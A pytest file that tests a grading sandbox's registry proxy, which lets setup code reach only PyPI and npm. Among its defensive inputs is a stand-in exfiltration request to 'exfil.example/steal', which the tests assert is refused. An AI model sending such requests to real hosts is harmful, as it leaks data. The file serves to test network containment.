"""The setup phase's only way out: a proxy that tunnels to the configured registries and refuses the rest."""

from __future__ import annotations

import contextlib
import http.server
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import write_tree

from gradelib.sandbox import Sandbox, registryproxy
from gradelib.sandbox.registryproxy import RegistryProxy, registry_hosts


@contextlib.contextmanager
def _echo_server() -> Iterator[int]:
    """A TCP server on the host's loopback that sends back what it receives: its port."""
    listener = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def serve() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(10)
                with contextlib.suppress(OSError):
                    while data := conn.recv(4096):
                        conn.sendall(data.upper())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        stop.set()
        thread.join()
        listener.close()


@contextlib.contextmanager
def _proxy(proxy: RegistryProxy) -> Iterator[int]:
    """The proxy served on the host's loopback (the sandbox gives it a socket in its namespace instead)."""
    listener = socket.create_server(("127.0.0.1", 0))
    with listener, proxy.serve(listener):
        yield listener.getsockname()[1]


def _ask(port: int, request: bytes, then: bytes = b"") -> tuple[bytes, bytes]:
    """Send a request head to the proxy; its answer's status line, and what `then` came back as."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(request)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = conn.recv(4096)
            if not chunk:
                break
            answer += chunk
        echoed = b""
        if then and answer.startswith(b"HTTP/1.1 200"):
            conn.sendall(then)
            while len(echoed) < len(then):
                echoed += conn.recv(4096)
        return answer.split(b"\r\n", 1)[0], echoed


def test_the_registries_are_pypi_and_npm_by_default_or_what_is_configured() -> None:
    assert registry_hosts(None, None) == (
        "pypi.org:443", "files.pythonhosted.org:443", "registry.npmjs.org:443", "registry.yarnpkg.com:443",
    )  # fmt: skip
    assert registry_hosts("http://mirror.internal:3141/root/pypi/+simple/", "https://npm.internal/") == (
        "mirror.internal:3141", "npm.internal:443",
    )  # fmt: skip


def test_only_a_registry_by_its_name_and_port_is_allowed() -> None:
    proxy = RegistryProxy(registry_hosts(None, None))
    assert proxy.allows("pypi.org", 443) and proxy.allows("Registry.NPMjs.org.", 443)
    assert not proxy.allows("pypi.org", 22)
    assert not proxy.allows("pypi.org.evil.example", 443)
    assert not proxy.allows("151.101.0.223", 443), "an address is no name"
    assert not proxy.allows("example.com", 443)


def test_a_tunnel_to_an_allowed_host_carries_bytes_and_the_rest_is_refused_and_listed() -> None:
    with _echo_server() as allowed, _echo_server() as other:
        proxy = RegistryProxy([f"127.0.0.1:{allowed}"])
        with _proxy(proxy) as port:
            status, echoed = _ask(port, f"CONNECT 127.0.0.1:{allowed} HTTP/1.1\r\n\r\n".encode(), b"hello")
            assert (status, echoed) == (b"HTTP/1.1 200 Connection Established", b"HELLO")
            status, _ = _ask(port, f"CONNECT 127.0.0.1:{other} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            assert status == b"HTTP/1.1 403 Forbidden"
            status, _ = _ask(port, b"GET http://exfil.example/steal?k=1 HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
            assert status == b"HTTP/1.1 403 Forbidden"
            status, _ = _ask(port, f"POST http://127.0.0.1:{allowed}/upload HTTP/1.1\r\n\r\n".encode())
            assert status == b"HTTP/1.1 405 Method Not Allowed"
            status, _ = _ask(port, b"\x16\x03\x01 not http at all\r\n\r\n")  # TLS straight away
            assert status == b"HTTP/1.1 405 Method Not Allowed"
    evidence = proxy.evidence()
    assert evidence["reached"] == {f"127.0.0.1:{allowed}": 1}
    assert evidence["refused"][:3] == [
        f"127.0.0.1:{other}: not a configured registry",
        "exfil.example: not a configured registry",
        f"127.0.0.1:{allowed}: POST: only HTTPS tunnels go out",
    ]


def test_a_tunnel_passes_small_writes_on_at_once_both_ways(monkeypatch: pytest.MonkeyPatch) -> None:
    """TCP_NODELAY on both ends of a tunnel: a TLS handshake's and a request's small writes are not held
    behind the peer's delayed ACK (about 40 ms a request through the proxy, measured, before)."""
    seen: list[tuple[int, int]] = []
    relay = registryproxy._relay

    def watched(client: socket.socket, upstream: socket.socket) -> None:
        option = (socket.IPPROTO_TCP, socket.TCP_NODELAY)
        seen.append((client.getsockopt(*option), upstream.getsockopt(*option)))
        relay(client, upstream)

    monkeypatch.setattr(registryproxy, "_relay", watched)
    with _echo_server() as allowed:
        proxy = RegistryProxy([f"127.0.0.1:{allowed}"])
        with _proxy(proxy) as port:
            status, echoed = _ask(port, f"CONNECT 127.0.0.1:{allowed} HTTP/1.1\r\n\r\n".encode(), b"hi")
    assert (status, echoed) == (b"HTTP/1.1 200 Connection Established", b"HI")
    assert len(seen) == 1 and all(seen[0]), seen


def test_a_registry_configured_at_an_http_address_is_read_with_plain_requests_one_per_connection() -> None:
    seen: list[bytes] = []

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.requestline.encode() + b"|" + str(self.headers.get("Connection")).encode())
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"index")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        index = f"127.0.0.1:{server.server_address[1]}"
        proxy = RegistryProxy(registry_hosts(f"http://{index}/simple", None))
        with _proxy(proxy) as port, socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(f"GET http://{index}/simple/six/?x=1 HTTP/1.1\r\nHost: {index}\r\n"
                         "Proxy-Connection: keep-alive\r\n\r\n".encode())  # fmt: skip
            answer = b""
            while chunk := conn.recv(4096):
                answer += chunk
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert answer.startswith(b"HTTP/1.0 200") and answer.endswith(b"\r\n\r\nindex"), answer
    assert seen == [b"GET /simple/six/?x=1 HTTP/1.1|close"]
    assert proxy.evidence()["reached"] == {index: 1}


def test_a_registry_name_is_looked_up_once_and_again_when_the_resolver_says_try_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    real = socket.getaddrinfo
    asked: list[str] = []

    def flaky(host: str, *args: object, **kwargs: object) -> object:
        asked.append(host)
        if host == "registry.test" and asked.count(host) == 1:
            raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")
        return real("127.0.0.1" if host == "registry.test" else host, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", flaky)
    with _echo_server() as port:
        proxy = RegistryProxy([f"registry.test:{port}"])
        with _proxy(proxy) as proxy_port:
            for _ in range(3):
                status, echoed = _ask(proxy_port, f"CONNECT registry.test:{port} HTTP/1.1\r\n\r\n".encode(), b"x")
                assert (status, echoed) == (b"HTTP/1.1 200 Connection Established", b"X")
    assert asked.count("registry.test") == 2, "one failed lookup, one that answered, then the answer kept"
    assert proxy.evidence()["refused"] == []


@pytest.mark.parametrize("direct", [False, True])
def test_a_sandboxed_setup_reaches_a_registry_only_through_the_proxy(tmp_path: Path, direct: bool) -> None:
    """The sandbox's network namespace has no way out but the proxy the kit serves into it."""
    code = (
        "import os, socket, sys\n"
        "host, port = sys.argv[1], int(sys.argv[2])\n"
        "if sys.argv[3] == 'direct':\n"
        "    conn = socket.create_connection((host, port), timeout=5)\n"
        "else:\n"
        "    proxy = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')\n"
        "    conn = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)\n"
        "    conn.sendall(f'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\n'.encode())\n"
        "    print(conn.recv(4096).split(b'\\r\\n')[0].decode())\n"
        "conn.sendall(b'ping')\n"
        "print(conn.recv(64).decode())\n"
    )
    sub = write_tree(tmp_path / "sub", {"setup.py": code})
    with _echo_server() as registry:
        proxy = RegistryProxy([f"127.0.0.1:{registry}"])
        with Sandbox(sub) as box:
            argv = ["python3", "setup.py", "127.0.0.1", str(registry), "direct" if direct else "proxy"]
            result = box.run(argv, box.copy("a"), services=[proxy.service()])
    if not result.isolation.network_verified:
        pytest.fail(f"the sandbox has no network namespace here: {result.isolation.reason}")
    if direct:
        assert result.exit_code != 0 and "Connection refused" in result.stderr  # nothing of the host's is there
        assert proxy.evidence()["reached"] == {}
    else:
        assert result.exit_code == 0, result.stderr
        assert result.stdout.split() == ["HTTP/1.1", "200", "Connection", "Established", "PING"]
        assert proxy.evidence()["reached"] == {f"127.0.0.1:{registry}": 1}


def test_each_registry_named_by_its_host_has_a_passage_of_its_own() -> None:
    proxy = RegistryProxy([*registry_hosts(None, None), "10.1.2.3:8080"])
    passages = proxy.passages()
    named = {passage.names: (passage.address, passage.port) for passage in passages}
    hosts = ("pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "registry.yarnpkg.com")
    assert set(named) == {(host,) for host in hosts}
    addresses = [address for address, _ in named.values()]
    assert len(set(addresses)) == 4 and all(a.startswith("127.") for a in addresses)
    assert {port for _, port in named.values()} == {443}
    assert not any("10.1.2.3" in name for passage in passages for name in passage.names), "an address has no name"


def test_a_sandboxed_tool_sent_to_a_passage_reaches_that_registry_by_its_name_and_nothing_else(tmp_path: Path) -> None:
    """The sandbox's resolver answers the registry's name with its passage; every other name still leads
    nowhere, and the proxy's account counts what the passage carried."""
    code = (
        "import socket, sys\n"
        "conn = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)\n"
        "conn.sendall(b'ping'); print(conn.recv(64).decode()); conn.close()\n"
        "try:\n"
        "    socket.create_connection(('elsewhere.example', int(sys.argv[2])), timeout=5)\n"
        "except OSError as exc:\n"
        "    print('elsewhere:', type(exc).__name__)\n"
    )
    sub = write_tree(tmp_path / "sub", {"fetch.py": code})
    with _echo_server() as port:
        proxy = RegistryProxy([f"registry.test:{port}"])
        proxy._addresses[("registry.test", port)] = ["127.0.0.1"]  # the kit's own lookup of the test's name
        with Sandbox(sub) as box:
            argv = ["python3", "fetch.py", "registry.test", str(port)]
            result = box.run(argv, box.copy("a"), services=[proxy.service(), *proxy.passages()])
    if not result.isolation.network_verified:
        pytest.fail(f"the sandbox has no network namespace here: {result.isolation.reason}")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == ["PING", "elsewhere: OSError"]
    assert proxy.evidence()["reached"] == {f"registry.test:{port}": 1}
    assert "registry.test" in result.dns_names and "elsewhere.example" in result.dns_names


def test_a_passage_to_an_unreachable_registry_closes_the_connection_and_lists_why() -> None:
    closed = socket.create_server(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    proxy = RegistryProxy([f"registry.test:{port}"])
    proxy._addresses[("registry.test", port)] = ["127.0.0.1"]  # the kit's own lookup of the test's name
    (passage,) = proxy.passages()
    listener = socket.create_server(("127.0.0.1", 0))
    with listener, passage.serve(listener), socket.create_connection(listener.getsockname(), timeout=10) as conn:
        conn.sendall(b"\x16\x03\x01 a TLS hello")
        try:
            answer = conn.recv(64)
        except ConnectionResetError:  # closed with the hello unread
            answer = b""
        assert answer == b"", "closed, with no HTTP answer inside what would be TLS"
    assert proxy.evidence()["reached"] == {}
    assert [r.target for r in proxy.refused] == [f"registry.test:{port}"]
    assert proxy.refused[0].reason.startswith("unreachable")
